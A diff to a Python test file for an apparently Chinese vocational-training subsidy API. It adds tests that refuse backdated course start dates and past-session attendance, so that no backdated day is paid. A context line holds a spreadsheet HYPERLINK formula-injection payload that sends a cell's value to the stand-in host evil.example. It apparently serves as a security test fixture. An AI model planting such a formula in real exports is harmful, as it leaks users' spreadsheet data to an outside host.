@@ -9,6 +9,7 @@ from openpyxl import load_workbook
 from core.models import china_today
 from tests.conftest import VILLAGE
 from tests.security.test_spreadsheets import formulas_in
+from tests.training.conftest import dated_course
 
 LINK = '=HYPERLINK("http://evil.example/?x="&C2,"点击")'
 
@@ -66,12 +67,19 @@ def test_a_session_outside_the_course_dates_is_refused(api_as):
 
 
 def test_a_course_dated_back_gets_no_register_to_pay_on(api_as, make_worker, app, monkeypatch):
-    """With the session inside the dates, the provider dates the whole course back instead: a
-    session long past cannot be added, nor its attendance taken, so no such day is paid."""
+    """With the session inside the dates, the provider dates the whole course back instead: a new
+    course is not dated in the past, nor are a course's dates moved there; and on a course that has
+    run that long, a session long past cannot be added, nor its attendance taken, so no such day is
+    paid."""
     provider, station = api_as("provider"), api_as("station", [VILLAGE])
     today = china_today()
-    back = course(provider, starts_on="1900-01-01", ends_on=(today + timedelta(days=30)).isoformat(),
-                  rolling_admission=True)
+    dated_back = {"starts_on": "1900-01-01", "ends_on": (today + timedelta(days=30)).isoformat()}
+    refused = provider.post("/api/v1/courses", json={"title": "焊工培训", "provider": "县职业技术学校", "mode": "night",
+                                                     "capacity": 10, "subsidy_per_day": 100, **dated_back})
+    assert refused.status_code == 422 and set(refused.json["error"]["fields"]) == {"starts_on"}
+    moved = provider.patch(f"/api/v1/courses/{course(provider)}", json={"starts_on": "1900-01-01"})
+    assert moved.status_code == 422 and set(moved.json["error"]["fields"]) == {"starts_on"}
+    back = dated_course(provider, rolling_admission=True, **dated_back)  # as if it had run since then
     refused = session(provider, back, date(1900, 1, 1))
     assert refused.status_code == 422 and "day" in refused.json["error"]["fields"]
     lately = today - timedelta(days=app.config["ATTENDANCE_GRACE_DAYS"])
